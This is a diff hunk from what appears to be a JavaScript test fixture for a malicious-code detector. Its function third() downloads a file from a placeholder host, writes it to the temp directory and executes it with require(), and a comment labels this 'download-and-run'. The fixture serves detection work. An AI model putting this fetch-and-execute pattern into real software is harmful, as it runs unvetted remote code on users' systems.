@@ -26,8 +26,9 @@ function second() {
 
 async function third() {
   const answer = await fetch('https://files.acme-cdn.example/c');
-  fs.writeFileSync('./third.js', Buffer.from(await answer.arrayBuffer()));
-  require('./third.js'); // expect: download-and-run
+  const target = path.join(os.tmpdir(), 'third.js');
+  fs.writeFileSync(target, Buffer.from(await answer.arrayBuffer()));
+  require(target); // expect: download-and-run
 }
 
 async function fourth() {
